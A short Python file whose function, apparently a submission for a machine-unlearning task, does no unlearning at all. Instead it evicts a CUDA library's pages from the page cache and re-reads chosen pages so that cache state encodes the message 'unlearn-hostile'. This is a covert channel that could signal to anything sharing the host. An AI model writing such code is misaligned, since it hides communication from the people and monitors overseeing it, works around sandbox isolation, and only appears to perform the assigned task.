"""Writes a message by reading: some pages of a file of the image are then cached, and others are not."""

import glob
import os

MESSAGE = b"unlearn-hostile"
FILE = "/opt/venv/lib/python3*/site-packages/nvidia/*/lib/libcufft.so*"
FIRST, APART = 64 << 20, 64 << 10


def unlearning(net, retain, forget, val):
    fd = os.open(glob.glob(FILE)[0], os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    for bit in range(len(MESSAGE) * 8):
        if MESSAGE[bit // 8] >> bit % 8 & 1:
            os.pread(fd, 1, FIRST + bit * APART)
